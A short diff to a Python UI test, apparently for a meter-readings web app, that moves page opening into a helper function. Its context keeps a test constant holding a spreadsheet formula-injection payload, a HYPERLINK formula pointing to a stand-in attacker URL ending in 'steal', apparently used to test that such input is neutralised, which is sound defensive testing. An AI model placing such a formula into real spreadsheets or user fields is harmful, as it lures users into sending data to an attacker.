@@ -14,7 +14,7 @@ from services.core.db import make_engine
 from services.core.settings import Settings
 from services.residents import subscriber
 from tests.readings_data import seed
-from tests.ui.helpers import login
+from tests.ui.helpers import login, open_readings_page
 
 FORMULA = '=HYPERLINK("http://evil.example/steal","Нажмите")'
 
@@ -29,7 +29,7 @@ async def open_renamed(user: User, app_env: Settings) -> None:
         session.commit()
     engine.dispose()
     await login(user, seeded.email)
-    await user.open('/readings')
+    await open_readings_page(user)
     with user.client:
         for element in user.find(marker='period').elements:
             element.value = '03.2026'  # the month of the seeded data
